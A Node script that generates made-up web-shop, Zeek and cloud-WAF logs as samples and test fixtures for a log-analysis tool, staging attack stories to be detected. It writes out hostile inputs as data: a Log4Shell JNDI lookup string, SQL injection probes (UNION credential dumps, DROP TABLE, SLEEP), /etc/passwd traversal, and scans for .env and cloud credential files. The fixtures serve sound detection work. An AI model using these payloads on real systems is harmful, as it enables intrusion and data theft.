// Writes the logs that we made up, so that nobody's visitors are in this repository: `make data` runs it.
//
//   public/sample/shop-access.log          three days of a small shop, for "try a sample"
//   tests/cases/samples/zeek/*.log         twenty minutes of an office network as Zeek writes it
//   tests/cases/samples/cloud-waf.csv      flows of a web server as a cloud's export writes them
//   tests/cases/samples/no-log.txt         a text that is no log
//
// Addresses are the ones set aside for documentation (RFC 5737, RFC 3849) and private ones; names end in .example, but for the
// host names that the shipped lists look for. Every story below is meant to be found.
import { mkdir, readFile, writeFile } from 'node:fs/promises';
import { random } from './random.mjs';

const ROOT = new URL('../../', import.meta.url);
const MONTHS = ['Jan', 'Feb', 'Mar', 'Apr', 'May', 'Jun', 'Jul', 'Aug', 'Sep', 'Oct', 'Nov', 'Dec'];
const SECOND = 1000;
const MINUTE = 60 * SECOND;
const HOUR = 60 * MINUTE;

// ------------------------------------------------------------------------------------------------------- the shop's log

const { int, chance, pick, weighted, skewed, next } = random(20260313);
/** Friday to Sunday; the server's clock is an hour ahead of UTC. */
const FIRST_DAY = Date.UTC(2026, 2, 13);
const SITE = 'https://shop.example';
/** Visits by hour of the day: nobody at four, most after work. */
const HOURS = [4, 2, 1, 1, 1, 2, 5, 10, 14, 17, 19, 20, 22, 19, 18, 18, 20, 24, 29, 34, 36, 30, 19, 9];

const BROWSERS = [
  ['Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/145.0.0.0 Safari/537.36', 30],
  ['Mozilla/5.0 (iPhone; CPU iPhone OS 18_3 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.3 Mobile/15E148 Safari/604.1', 22],
  ['Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/145.0.0.0 Mobile Safari/537.36', 22],
  ['Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.3 Safari/605.1.15', 9],
  ['Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:147.0) Gecko/20100101 Firefox/147.0', 9],
  ['Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0', 4],
  ['Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/145.0.0.0 Safari/537.36 Edg/145.0.0.0', 8],
  ['Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 6.1; Trident/4.0)', 0.8],
  ['Opera/9.80 (Windows NT 6.1; WOW64) Presto/2.12.388 Version/12.18', 0.6],
];
const CRAWLERS = [
  ['192.0.2.11', 'Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)', 190],
  ['192.0.2.12', 'Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; GPTBot/1.2; +https://openai.com/gptbot)', 150],
  ['192.0.2.13', 'Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)', 90],
  ['192.0.2.14', 'Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)', 80],
  ['192.0.2.15', 'Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; ClaudeBot/1.0; +claudebot@anthropic.com)', 60],
  ['2001:db8:c0::53', 'facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)', 12],
];
const CATEGORIES = ['lamps', 'desks', 'chairs', 'shelves', 'rugs', 'clocks'];
const PRODUCTS = Array.from({ length: 120 }, (_, number) => ({
  id: 100 + number,
  path: `/product/${100 + number}-${pick(['oak', 'ash', 'steel', 'linen', 'clay', 'birch'])}-${pick(CATEGORIES).slice(0, -1)}`,
  bytes: int(9_000, 24_000),
}));
const POSTS = ['how-to-oil-oak', 'small-rooms', 'meet-the-joiner', 'spring-sale', 'care-for-linen'];
const REFERRERS = [
  ['-', 40], ['https://www.google.com/', 34], ['https://duckduckgo.com/', 5], ['https://www.bing.com/', 6],
  ['https://www.pinterest.com/', 5], ['https://news.shop.example/march', 6], ['https://www.amazon.com/', 2],
];
const ASSETS = [['/assets/site.css', 18_240], ['/assets/site.js', 61_377], ['/assets/logo.svg', 2_914]];

const lines = [];

/** One request; `at` in milliseconds, also the order. */
function log(at, address, request, status, bytes, { referrer = '-', agent = '-', user = '-' } = {}) {
  lines.push({ at, text: `${address} - ${user} [${clock(at)}] "${request}" ${status} ${bytes} "${referrer}" "${agent}"` });
}

/** 13/Mar/2026:20:15:02 +0100 */
function clock(at) {
  const local = new Date(at + HOUR);
  const two = (number) => String(number).padStart(2, '0');
  return `${two(local.getUTCDate())}/${MONTHS[local.getUTCMonth()]}/${local.getUTCFullYear()}`
    + `:${two(local.getUTCHours())}:${two(local.getUTCMinutes())}:${two(local.getUTCSeconds())} +0100`;
}

/** A moment of local time: day 0 is Friday. */
const moment = (day, hour, minute = 0, second = 0) =>
  FIRST_DAY + ((day * 24 + hour - 1) * 60 + minute) * MINUTE + second * SECOND;

/** A moment when people visit; Saturday has more of them. */
function visitMoment() {
  const hour = weighted(HOURS.map((weight, number) => [number, weight]));
  return moment(weighted([[0, 9], [1, 13], [2, 10]]), hour, int(0, 59), int(0, 59));
}

/** Addresses of people; those below .30 of each block are kept for the stories. */
function personAddress() {
  if (chance(0.16)) return `2001:db8:${int(1, 0x2ff).toString(16)}:${int(0, 15).toString(16)}::${int(1, 0xffff).toString(16)}`;
  return `${pick(['198.51.100', '203.0.113', '192.0.2'])}.${int(30, 254)}`;
}

function visit() {
  const address = personAddress();
  const agent = weighted(BROWSERS);
  let at = visitMoment();
  let referrer = weighted(REFERRERS);
  const warm = chance(0.35); // has been here before: the browser keeps the assets
  const get = (path, status, bytes, from = referrer) => log(at, address, `GET ${path} HTTP/${agent.startsWith('Mozilla/4') || agent.startsWith('Opera') ? '1.1' : '2.0'}`,
    status, bytes, { referrer: from, agent });
  const page = (path, status, bytes) => {
    get(path, status, bytes);
    referrer = SITE + path;
    at += int(4, 75) * SECOND;
  };

  const landing = weighted([['/', 45], ['category', 18], ['product', 27], ['blog', 10]]);
  if (landing === '/') page('/', 200, int(14_200, 14_900));
  else if (landing === 'category') page(`/category/${pick(CATEGORIES)}`, 200, int(18_000, 31_000));
  else if (landing === 'blog') page(`/blog/${pick(POSTS)}/`, 200, int(11_000, 19_000));
  else {
    const product = PRODUCTS[skewed(PRODUCTS.length)];
    page(product.path, 200, product.bytes);
  }
  at -= 3 * SECOND;
  for (const [path, bytes] of ASSETS) get(path, warm ? 304 : 200, warm ? 0 : bytes);
  if (!warm) get(chance(0.93) ? '/favicon.ico' : '/apple-touch-icon.png', chance(0.9) ? 200 : 404, 1_150);
  at += 3 * SECOND;

  const steps = weighted([[0, 34], [1, 22], [2, 16], [4, 15], [7, 9], [11, 4]]);
  let cart = 0;
  for (let step = 0; step < steps; step++) {
    const kind = weighted([['category', 20], ['product', 52], ['search', 10], ['cart', 12], ['blog', 4], ['gone', 2]]);
    if (kind === 'category') {
      page(`/category/${pick(CATEGORIES)}${chance(0.2) ? `?page=${int(2, 4)}` : ''}`, 200, int(18_000, 31_000));
    } else if (kind === 'product') {
      const product = PRODUCTS[skewed(PRODUCTS.length)];
      page(product.path, 200, product.bytes);
      const kept = warm && chance(0.5);
      get(`/images/${product.id}-large.webp`, kept ? 304 : 200, kept ? 0 : int(60_000, 240_000));
    } else if (kind === 'search') {
      page(`/search?q=${pick(['oak+desk', 'lamp', 'wall+clock', 'rug+200x300', 'chair', 'gift+card', 'amazon+alexa+lamp'])}`, 200, int(8_000, 22_000));
    } else if (kind === 'cart') {
      log(at, address, 'POST /cart/add HTTP/2.0', 303, 0, { referrer, agent });
      page('/cart', 200, int(6_000, 9_000));
      cart++;
    } else if (kind === 'blog') page(`/blog/${pick(POSTS)}/`, 200, int(11_000, 19_000));
    else page(`/product/${int(20, 99)}-discontinued`, 404, 5_120);
  }
  if (cart > 0 && chance(0.55)) {
    page('/checkout', 200, int(9_000, 10_000));
    log(at, address, 'POST /checkout/address HTTP/2.0', 303, 0, { referrer, agent });
    at += int(20, 90) * SECOND;
    // On Saturday afternoon the payment service was away for half an hour.
    const away = at >= moment(1, 15, 5) && at < moment(1, 15, 40);
    log(at, address, 'POST /checkout/pay HTTP/2.0', away ? 502 : 303, away ? 562 : 0, { referrer, agent });
    if (!away) page(`/order/thanks`, 200, int(5_000, 6_000));
  }
}

/** Half an hour in which the payment service is away and people try again. */
function outage() {
  for (let number = 0; number < 46; number++) {
    const address = personAddress();
    const at = moment(1, 15, 5) + int(0, 35 * 60) * SECOND;
    const agent = weighted(BROWSERS.slice(0, 7));
    for (let retry = 0; retry < int(1, 3); retry++) {
      log(at + retry * int(5, 20) * SECOND, address, 'POST /checkout/pay HTTP/2.0', 502, 562, { referrer: `${SITE}/checkout`, agent });
    }
  }
}

function crawlers() {
  for (const [address, agent, count] of CRAWLERS) {
    log(visitMoment(), address, 'GET /robots.txt HTTP/1.1', 200, 214, { agent });
    for (let number = 0; number < count; number++) {
      const at = moment(int(0, 2), int(0, 23), int(0, 59), int(0, 59));
      const product = pick(PRODUCTS);
      const path = weighted([[product.path, 60], [`/category/${pick(CATEGORIES)}?page=${int(1, 6)}`, 20],
        [`/blog/${pick(POSTS)}/`, 10], ['/sitemap.xml', 3], [`/product/${int(20, 99)}-discontinued`, 7]]);
      const status = path.includes('discontinued') ? 404 : chance(0.1) ? 304 : 200;
      log(at, address, `GET ${path} HTTP/1.1`, status, status === 304 ? 0 : status === 404 ? 5_120 : product.bytes, { agent });
    }
  }
}

/** The shop's own machines: a health check from inside, and Anna, who looks at the sales. */
function inside() {
  for (let at = moment(0, 0); at < moment(3, 0); at += 20 * MINUTE) {
    log(at + 7 * SECOND, '10.20.0.5', 'GET /health HTTP/1.1', 200, 2, { agent: 'check_http/2.4 (monitoring-plugins)' });
  }
  for (let day = 0; day < 3; day++) {
    for (let number = 0; number < 6; number++) {
      const at = moment(day, 9, 4 + number * 3, int(0, 59));
      log(at, '10.20.0.14', `GET /reports/sales?day=${day + 13} HTTP/1.1`, 200, int(20_000, 44_000),
        { user: 'anna', agent: BROWSERS[4][0], referrer: `${SITE}/reports/` });
    }
  }
}

/** Looks for forgotten files and WordPress plug-ins, twice, in bursts of several a second; nearly all are missing. */
function scanner() {
  const words = ['/.env', '/.git/config', '/wp-config.php.bak', '/xmlrpc.php', '/wp-content/debug.log', '/phpmyadmin/index.php',
    '/wp-admin/setup-config.php', '/wp-includes/wlwmanifest.xml', '/backup.zip', '/db.sql', '/server-status', '/actuator/env',
    '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php', '/cgi-bin/luci/;stok=/locale', '/.aws/credentials', '/admin/config.php',
    '/wp-json/wp/v2/users', '/solr/admin/info/system', '/owa/auth/logon.aspx', '/cgi-bin/../../../../etc/passwd',
    '/..%2f..%2f..%2f..%2fetc%2fpasswd', '/index.php?page=../../../../etc/passwd%00', '/.svn/entries', '/config.json'];
  const plugins = ['revslider', 'wp-file-manager', 'elementor', 'contact-form-7', 'duplicator', 'woocommerce', 'jetpack', 'wpforms',
    'ninja-forms', 'backup-buddy', 'wp-gdpr', 'easy-wp-smtp'];
  for (const [start, count] of [[moment(0, 22, 14), 170], [moment(2, 4, 41), 120]]) {
    let at = start;
    for (let number = 0; number < count; number++) {
      const path = chance(0.45) ? pick(words) : `/wp-content/plugins/${pick(plugins)}/${pick(['readme.txt', 'changelog.txt', 'includes/upload.php'])}`;
      const status = path === '/xmlrpc.php' ? 405 : path.includes('..') ? 400 : path === '/server-status' ? 403 : 404;
      log(at, '203.0.113.7', `GET ${path} HTTP/1.1`, status, status === 404 ? 5_120 : 226, { agent: 'Mozilla/5.0 zgrab/0.x' });
      at += int(0, 2) * SECOND;
    }
  }
  const jndi = '${jndi:ldap://203.0.113.7:1389/a}';
  log(moment(0, 22, 17, 40), '203.0.113.7', `GET /?x=${jndi} HTTP/1.1`, 200, 14_455, { agent: jndi, referrer: jndi });
}

/** Guesses the password of the blog's log-in page all night, gets in at 03:41 and looks around. */
function bruteForce() {
  const agent = 'Mozilla/5.0 (Windows NT 6.1; rv:52.0) Gecko/20100101 Firefox/52.0';
  const referrer = `${SITE}/wp-login.php`;
  let at = moment(1, 3, 2);
  log(at, '198.51.100.23', 'GET /wp-login.php HTTP/1.1', 200, 4_203, { agent });
  for (let number = 0; number < 214; number++) {
    at += int(8, 14) * SECOND;
    log(at, '198.51.100.23', 'POST /wp-login.php HTTP/1.1', 200, 4_471, { agent, referrer });
  }
  at += 9 * SECOND;
  log(at, '198.51.100.23', 'POST /wp-login.php HTTP/1.1', 302, 0, { agent, referrer });
  for (const [path, status, bytes] of [['/wp-admin/', 200, 61_204], ['/wp-admin/users.php', 200, 48_110],
    ['/wp-admin/plugin-install.php?tab=upload', 200, 52_377], ['/wp-admin/theme-editor.php', 200, 57_960]]) {
    at += int(6, 30) * SECOND;
    log(at, '198.51.100.23', `GET ${path} HTTP/1.1`, status, bytes, { agent, referrer: `${SITE}/wp-admin/` });
  }
}

/** Tries to make the shop's database answer questions of its own. */
function sqlInjection() {
  const probes = ["1'", "1' AND 1=1-- -", "1' AND 1=2-- -", "1' ORDER BY 10-- -", "1' UNION SELECT NULL,NULL,NULL-- -",
    "1' UNION ALL SELECT NULL,CONCAT(user,0x3a,password),NULL FROM users-- -", "1 AND SLEEP(5)", "1' AND (SELECT 1 FROM (SELECT SLEEP(5))x)-- -",
    "1'; DROP TABLE orders-- -", "1' AND EXTRACTVALUE(1,CONCAT(0x7e,VERSION()))-- -", "1) OR (1=1", "1' OR '1'='1",
    "1' UNION SELECT table_name,NULL,NULL FROM information_schema.tables-- -", "1;WAITFOR DELAY '0:0:5'--"];
  let at = moment(1, 11, 38, 12);
  for (let number = 0; number < 64; number++) {
    const probe = encodeURIComponent(probes[number % probes.length]).replaceAll("'", '%27').replaceAll('(', '%28').replaceAll(')', '%29');
    const status = probe.includes('SLEEP') ? 500 : chance(0.25) ? 500 : chance(0.2) ? 403 : 200;
    log(at, '192.0.2.25', `GET /search?q=lamp&sort=${probe} HTTP/1.1`, status, status === 200 ? int(8_000, 22_000) : 562,
      { agent: 'sqlmap/1.9.2#stable (https://sqlmap.org)' });
    at += int(1, 6) * SECOND;
  }
}

/** At night one address takes away what nobody else has ever asked for: 3 GB of exports. */
function exports() {
  let at = moment(2, 2, 6, 31);
  for (let number = 0; number < 48; number++) {
    const month = `${2022 + Math.floor(number / 12)}-${String(1 + (number % 12)).padStart(2, '0')}`;
    const whole = chance(0.9);
    log(at, '203.0.113.19', `GET /export/orders-${month}.csv.gz HTTP/1.1`, whole ? 200 : 206, int(38_000_000, 92_000_000),
      { agent: 'Wget/1.21.4', user: 'export' });
    at += int(40, 75) * SECOND;
  }
}

/** Links from a host that the shipped list bans, sent to make someone click on them in a report. */
function referrerSpam() {
  for (let number = 0; number < 17; number++) {
    log(visitMoment(), `198.51.100.${int(5, 9)}`, 'GET / HTTP/1.1', 200, int(14_200, 14_900),
      { referrer: `http://sharq1.com/${pick(['best-deals', 'seo', 'win'])}`, agent: BROWSERS[0][0] });
  }
}

/** What is no request, and three lines that are no record. */
function broken() {
  for (let number = 0; number < 9; number++) {
    log(visitMoment(), `192.0.2.${int(20, 24)}`, '\\x16\\x03\\x01\\x02\\x00\\x01\\x00\\x01\\xFC\\x03\\x03' + pick(['\\x8A\\xE1', 'u\\x9F', '\\xD0\\x07']),
      400, 226);
  }
  for (let number = 0; number < 6; number++) log(visitMoment(), personAddress(), '-', 408, 0);
  log(moment(0, 5, 12), '192.0.2.22', 'OPTIONS * HTTP/1.0', 200, 0, { agent: 'a \\"quoted\\" agent' });
  log(moment(2, 5, 12), '192.0.2.23', 'CONNECT mail.example:25 HTTP/1.1', 405, 226);
  lines.push({ at: moment(1, 0, 0, 2), text: '198.51.100.77 - - [14/Mar/2026:00:00:02 +0100] "GET /category/la' });
  lines.push({ at: moment(1, 6, 25, 1), text: 'logrotate: rotating pattern: /var/log/nginx/*.log after 1 days (14 rotations)' });
  lines.push({ at: moment(2, 6, 25, 1), text: 'logrotate: rotating pattern: /var/log/nginx/*.log after 1 days (14 rotations)' });
}

for (let number = 0; number < 560; number++) visit();
for (const story of [outage, crawlers, inside, scanner, bruteForce, sqlInjection, exports, referrerSpam, broken]) story();
lines.forEach((line, number) => (line.number = number));
lines.sort((a, b) => a.at - b.at || a.number - b.number);
const shop = lines.map((line) => line.text).join('\n') + '\n';

// ------------------------------------------------------------------------------------------------ an office, seen by Zeek

const zeekStart = Date.UTC(2026, 2, 12, 9, 0, 0) / 1000;
const zeekRows = { http: [], dns: [], conn: [] };
const OFFICE = ['192.168.20.31', '192.168.20.32', '192.168.20.33', '192.168.20.34'];
const RESOLVER = '192.168.20.1';
const HOSTS = [
  ['intranet.example', '192.168.20.10'], ['www.shop.example', '198.51.100.80'], ['news.example', '203.0.113.80'],
  ['www.amazon.com', '192.0.2.80'], ['www.google.com', '192.0.2.81'], ['sharq1.com', '203.0.113.66'],
];

const uid = () => 'C' + Array.from({ length: 17 }, () => pick([...'abcdefghijkmnopqrstuvwxyzABCDEFGHJKLMNPQRSTUVWXYZ123456789'])).join('');
const seconds = (value) => value.toFixed(6);

function connection(ts, id, from, port, to, toPort, proto, service, duration, sent, received, state = 'SF') {
  zeekRows.conn.push([seconds(ts), id, from, port, to, toPort, proto, service, seconds(duration), sent, received, state, 'T',
    to.startsWith('192.168') ? 'T' : 'F', 0, proto === 'udp' ? 'Dd' : 'ShADadFf', int(1, 30), sent + 400, int(1, 40), received + 400, '(empty)']);
}

function lookUp(ts, from, name, type, code, answers) {
  const id = uid();
  const port = int(49152, 65535);
  zeekRows.dns.push([seconds(ts), id, from, port, RESOLVER, 53, 'udp', int(1, 65535), seconds(next() / 20), name, 1, 'C_INTERNET',
    { A: 1, AAAA: 28, PTR: 12, TXT: 16 }[type], type, { NOERROR: 0, NXDOMAIN: 3 }[code], code, 'F', 'F', 'T', 'T', 0,
    answers.length ? answers.join(',') : '-', answers.length ? answers.map(() => seconds(int(20, 3600))).join(',') : '-', 'F']);
  connection(ts, id, from, port, RESOLVER, 53, 'udp', 'dns', next() / 20, int(30, 60), int(60, 200));
}

function webRequest(ts, from, host, to, { method = 'GET', uri, agent, status = 200, words = 'OK', bytes, port = 80, referrer = '-' }) {
  const id = uid();
  const fromPort = int(49152, 65535);
  zeekRows.http.push([seconds(ts), id, from, fromPort, to, port, 1, method, host, uri, referrer, '1.1', agent, method === 'POST' ? 311 : 0, bytes,
    status, words, '-', '-', '(empty)', '-', '-', '-', '-', '-', '-', 'F' + uid().slice(1), '-', 'text/html']);
  connection(ts, id, from, fromPort, to, port, 'tcp', 'http', 0.2 + next(), int(300, 900), bytes + 300);
}

for (let number = 0; number < 120; number++) {
  const ts = zeekStart + next() * 1200;
  const from = OFFICE[skewed(OFFICE.length)];
  const [host, address] = HOSTS[skewed(HOSTS.length)];
  lookUp(ts, from, host, chance(0.8) ? 'A' : 'AAAA', 'NOERROR', [address]);
  webRequest(ts + 0.1, from, host, address, {
    uri: pick(['/', '/index.html', '/search?q=oak+desk', '/style.css', '/img/logo.png']), bytes: int(200, 40_000),
    agent: from === OFFICE[3] ? 'Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 5.1)' : BROWSERS[skewed(7)][0],
  });
}
// A host asked for by its bare address on an odd port, every thirty seconds: something calls home.
for (let number = 0; number < 40; number++) {
  webRequest(zeekStart + 3 + number * 30, OFFICE[2], '203.0.113.99', '203.0.113.99', {
    method: 'POST', uri: '/gate.php', bytes: 48, port: 8081, agent: 'Opera/9.80 (Windows NT 6.1)',
  });
}
// Names that do not exist, long and random: data in questions.
for (let number = 0; number < 30; number++) {
  const label = Array.from({ length: 40 }, () => pick([...'abcdefghijklmnopqrstuvwxyz234567'])).join('');
  lookUp(zeekStart + 300 + number * 2, OFFICE[1], `${label}.tunnel.example`, 'TXT', 'NXDOMAIN', []);
}
// One machine knocks at many doors of a server.
for (const [number, port] of [21, 22, 23, 25, 80, 110, 135, 139, 143, 443, 445, 1433, 3306, 3389, 4444, 5900, 8080].entries()) {
  connection(zeekStart + 700 + number / 10, uid(), OFFICE[3], int(49152, 65535), '192.168.20.10', port, 'tcp', '-', 0.001, 0, 0, port === 80 ? 'SF' : 'REJ');
}

const ZEEK_FIELDS = {
  http: ['ts uid id.orig_h id.orig_p id.resp_h id.resp_p trans_depth method host uri referrer version user_agent request_body_len '
    + 'response_body_len status_code status_msg info_code info_msg tags username password proxied orig_fuids orig_filenames '
    + 'orig_mime_types resp_fuids resp_filenames resp_mime_types',
    'time string addr port addr port count string string string string string string count count count string count string set[enum] '
    + 'string string set[string] vector[string] vector[string] vector[string] vector[string] vector[string] vector[string]'],
  dns: ['ts uid id.orig_h id.orig_p id.resp_h id.resp_p proto trans_id rtt query qclass qclass_name qtype qtype_name rcode rcode_name AA TC '
    + 'RD RA Z answers TTLs rejected',
    'time string addr port addr port enum count interval string count string count string count string bool bool bool bool count '
    + 'vector[string] vector[interval] bool'],
  conn: ['ts uid id.orig_h id.orig_p id.resp_h id.resp_p proto service duration orig_bytes resp_bytes conn_state local_orig local_resp '
    + 'missed_bytes history orig_pkts orig_ip_bytes resp_pkts resp_ip_bytes tunnel_parents',
    'time string addr port addr port enum string interval count count string bool bool count string count count count count set[string]'],
};

function zeekLog(path) {
  const [fields, types] = ZEEK_FIELDS[path].map((list) => list.split(' ').join('\t'));
  const rows = zeekRows[path].sort((a, b) => a[0] - b[0]).map((row) => row.join('\t'));
  return ['#separator \\x09', '#set_separator\t,', '#empty_field\t(empty)', '#unset_field\t-', `#path\t${path}`, '#open\t2026-03-12-09-00-00',
    `#fields\t${fields}`, `#types\t${types}`, ...rows, '#close\t2026-03-12-09-20-01', ''].join('\n');
}

// ---------------------------------------------------------------------------------------------------- a cloud's export

const SOURCES = [['203.0.113.40', 'US', 22], ['198.51.100.8', 'CA', 14], ['192.0.2.200', 'DE', 9], ['203.0.113.77', 'NL', 6], ['198.51.100.99', 'IL', 3]];
const flows = [];
for (let number = 0; number < 72; number++) {
  const begin = Date.UTC(2026, 2, 12, 22) + Math.floor(number / 6) * 10 * MINUTE;
  const [address, country] = weighted(SOURCES.map((source) => [source, source[2]]));
  // One source sends far more than it receives: an upload, seen from the server.
  const heavy = address === '198.51.100.99';
  const iso = (at) => new Date(at).toISOString().replace('.000', '');
  flows.push([heavy ? int(9_000_000, 21_000_000) : int(900, 60_000), heavy ? int(200_000, 900_000) : int(2_000, 40_000), iso(begin),
    iso(begin + 10 * MINUTE), address, country, 'HTTPS', 200, 443, '10.44.0.9', 'Unusual Web Traffic', 'Contact with Known Infrastructure',
    'VPC_Flow', 'shop_webserver', iso(begin), 'waf_rule'].join(','));
}
const CSV_HEAD = 'bytes_in,bytes_out,creation_time,end_time,src_ip,src_ip_country_code,protocol,response.code,dst_port,dst_ip,rule_names,'
  + 'observation_name,source.meta,source.name,time,detection_types';

const NO_LOG = `Dear Ines,

the desk has arrived and it is lovely. The drawer sticks a little in the morning, but you said that it would
until the oak has settled. I have put the lamp on it, the one with the green shade, and the cat on top of both.

Come and see it before the summer.
`;

const files = {
  'public/sample/shop-access.log': shop,
  'tests/cases/samples/zeek/http.log': zeekLog('http'),
  'tests/cases/samples/zeek/dns.log': zeekLog('dns'),
  'tests/cases/samples/zeek/conn.log': zeekLog('conn'),
  'tests/cases/samples/cloud-waf.csv': [CSV_HEAD, ...flows, ''].join('\n'),
  'tests/cases/samples/no-log.txt': NO_LOG,
};
const check = process.argv.includes('--check'); // only says whether the files are as they would be written
for (const [name, text] of Object.entries(files)) {
  const file = new URL(name, ROOT);
  if (check) {
    if ((await readFile(file, 'utf8')) !== text) throw new Error(`${name} is not what make data writes`);
    continue;
  }
  await mkdir(new URL('.', file), { recursive: true });
  await writeFile(file, text);
  console.log(`${name}: ${text.split('\n').length - 1} lines, ${text.length} bytes`);
}
